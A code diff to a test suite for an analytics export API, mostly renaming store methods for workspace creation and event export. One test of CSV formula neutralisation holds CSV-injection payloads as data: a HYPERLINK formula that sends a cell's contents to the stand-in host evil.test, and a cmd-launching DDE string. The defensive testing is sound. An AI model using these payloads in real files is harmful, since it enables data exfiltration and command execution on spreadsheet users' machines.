@@ -253,7 +253,7 @@ describe('exports of a small workspace', () => {
   })
 
   it("a second workspace's api_key exports only its own events and users", async () => {
-    const other = await server.store.createWorkspace({ name: 'Other', timezone: 'UTC', currency: 'EUR' })
+    const other = await server.store.workspaces.create({ name: 'Other', timezone: 'UTC', currency: 'EUR' })
     const mine = [
       {
         type: 'track',
@@ -285,7 +285,11 @@ describe('exports of a small workspace', () => {
   })
 
   it('neutralises formulas in CSV cells, as the dashboard’s CSV buttons do', async () => {
-    const hostile = await server.store.createWorkspace({ name: 'Hostile', timezone: 'UTC', currency: 'USD' })
+    const hostile = await server.store.workspaces.create({
+      name: 'Hostile',
+      timezone: 'UTC',
+      currency: 'USD',
+    })
     const link = '=HYPERLINK("https://evil.test/?"&A1,"Click me")'
     const command = "-2+3+cmd|' /C calc'!A0"
     const message = { type: 'track', userId: link, event: command, messageId: 'f1', timestamp: at(1) }
@@ -299,7 +303,7 @@ describe('exports of a small workspace', () => {
   })
 
   it('exports an empty workspace as a header only, or nothing', async () => {
-    const empty = await server.store.createWorkspace({ name: 'Empty', timezone: 'UTC', currency: 'USD' })
+    const empty = await server.store.workspaces.create({ name: 'Empty', timezone: 'UTC', currency: 'USD' })
     expect((await download(server, '/api/v1/export/events', empty.apiKey)).text).toBe('')
     expect((await download(server, '/api/v1/export/events?format=csv', empty.apiKey)).text).toBe(
       `${EVENT_COLUMNS}\r\n`,
@@ -368,7 +372,7 @@ describe('a large export', () => {
   })
 
   it('keeps no query open between chunks: the same connection commits while an export is suspended', async () => {
-    const iterator = server.store.exportEvents(server.workspaceId)[Symbol.asyncIterator]()
+    const iterator = server.store.exports.events(server.workspaceId)[Symbol.asyncIterator]()
     const first = await iterator.next()
     // i = 0, 1, 2 share the first instant; their messageIds decrease with i.
     expect(first.value).toMatchObject({ messageId: id(EVENTS - 3), userExternalId: 'user-2' })
